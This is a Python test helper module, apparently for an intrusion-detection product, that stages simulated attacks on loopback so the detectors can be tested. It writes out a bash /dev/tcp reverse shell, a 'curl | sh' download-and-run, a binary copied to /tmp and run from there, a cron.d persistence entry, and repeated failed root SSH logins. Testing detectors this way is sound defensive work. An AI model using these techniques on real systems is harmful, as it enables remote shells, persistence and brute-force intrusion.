# SPDX-License-Identifier: Apache-2.0
"""Five hostile acts against this machine only: loopback, files of their own, bounded loops."""

from __future__ import annotations

import contextlib
import http.server
import os
import shutil
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path

from tests.kernel.product import end, free_port, wait_for


def reverse_shell() -> None:
    """A shell on a socket to a local listener; the listener ends it."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        script = f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"
        shell = subprocess.Popen(["bash", "-c", script], start_new_session=True)
        try:
            listener.settimeout(10)
            peer, _ = listener.accept()
            with peer:
                peer.settimeout(10)
                peer.sendall(b"id\nexit\n")
                while peer.recv(4096):
                    pass
        finally:
            end(shell)


def run_copy_from_tmp() -> Path:
    """A copy of a system program, executed from /tmp."""
    copy = Path(f"/tmp/iw-test-copy-{os.getpid()}-{time.monotonic_ns()}")
    shutil.copy("/bin/true", copy)
    try:
        subprocess.run([str(copy), "hello"], check=True)
    finally:
        copy.unlink()
    return copy


class _Script(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = b"true\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        return


def curl_pipe_shell() -> None:
    """`curl … | sh` typed into an interactive kind of shell (two separate programs)."""
    with http.server.HTTPServer(("127.0.0.1", 0), _Script) as server:
        thread = threading.Thread(target=server.handle_request)
        thread.start()
        url = f"http://127.0.0.1:{server.server_port}/install"
        subprocess.run(["bash", "-s"], input=f"curl -s {url} | sh\n".encode(), check=True)
        thread.join(timeout=10)


@contextlib.contextmanager
def cron_file() -> Iterator[Path]:
    """A crontab of the test's own in /etc/cron.d, given back as it was."""
    path = Path("/etc/cron.d") / f"iw-test-{os.getpid()}"
    path.parent.mkdir(exist_ok=True)
    path.write_text("# empty\n")
    try:
        yield path
    finally:
        path.unlink(missing_ok=True)


def append_to_crontab(path: Path) -> None:
    subprocess.run(["bash", "-c", f"echo '# * * * * * root true' >> {path}"], check=True)


class LocalSshd:
    """A real sshd on a loopback port that logs through a real rsyslog into a file of the test.

    sshd logs to /dev/log; when nothing listens there (no syslog daemon on this machine) rsyslog is
    started on it for the test. Raises RuntimeError with the reason when one is missing.
    """

    def __init__(self, directory: Path) -> None:
        for program in ("/usr/sbin/sshd", "rsyslogd", "sshpass", "ssh"):
            if shutil.which(program) is None:
                raise RuntimeError(f"{program} is not installed")
        if Path("/dev/log").exists():
            raise RuntimeError("/dev/log is in use by this machine's own syslog daemon")
        self.directory = directory
        self.auth_log = directory / "auth.log"
        self.port = free_port()
        self._children: list[subprocess.Popen[bytes]] = []

    def start(self) -> LocalSshd:
        self.auth_log.touch()
        Path("/run/sshd").mkdir(exist_ok=True)
        syslog = self.directory / "rsyslog.conf"
        syslog.write_text(
            'module(load="imuxsock")\n'
            'template(name="classic" type="string" '
            'string="%TIMESTAMP% %HOSTNAME% %syslogtag%%msg:::sp-if-no-1st-sp%%msg:::drop-last-lf%\\n")\n'
            f'*.* action(type="omfile" file="{self.auth_log}" template="classic")\n'
        )
        self._spawn(["rsyslogd", "-n", "-f", str(syslog), "-i", str(self.directory / "rsyslog.pid")])
        wait_for(lambda: Path("/dev/log").exists(), 10, "rsyslogd did not open /dev/log")
        key = self.directory / "host_key"
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
        self._spawn(
            [
                "/usr/sbin/sshd", "-D", "-f", "/dev/null", "-h", str(key), "-p", str(self.port),
                "-o", "ListenAddress=127.0.0.1", "-o", "UsePAM=no", "-o", "PasswordAuthentication=yes",
                "-o", "MaxAuthTries=6", "-o", f"PidFile={self.directory / 'sshd.pid'}",
                "-o", f"AuthorizedKeysFile={self.directory / 'authorized'}", "-o", "StrictModes=no",
            ]
        )  # fmt: skip
        wait_for(self._listens, 10, "sshd did not listen")
        return self

    def _spawn(self, command: list[str]) -> None:
        self._children.append(subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))

    def _listens(self) -> bool:
        with socket.socket() as probe:
            return probe.connect_ex(("127.0.0.1", self.port)) == 0

    def failed_logins(self, count: int, user: str = "root") -> None:
        """`count` wrong passwords, one connection each."""
        for _ in range(count):
            subprocess.run(
                [
                    "sshpass", "-p", "wrong", "ssh", "-p", str(self.port), "-F", "/dev/null",
                    "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                    "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no",
                    "-o", "NumberOfPasswordPrompts=1", "-o", "LogLevel=ERROR", f"{user}@127.0.0.1", "true",
                ],
                check=False,
                stdin=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
                timeout=30,
            )  # fmt: skip

    def session(self, text: str, user: str = "root") -> None:
        """Log in with a key and run a shell text, as a person's terminal would."""
        key = self.directory / "login_key"
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
        shutil.copy(f"{key}.pub", self.directory / "authorized")
        subprocess.run(
            [
                "ssh", "-tt", "-p", str(self.port), "-F", "/dev/null", "-i", str(key), "-o", "IdentitiesOnly=yes",
                "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
                f"{user}@127.0.0.1", text,
            ],
            check=False,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            timeout=60,
        )  # fmt: skip

    def stop(self) -> None:
        for child in reversed(self._children):
            child.terminate()
            try:
                child.wait(timeout=10)
            except subprocess.TimeoutExpired:
                end(child)
        Path("/dev/log").unlink(missing_ok=True)
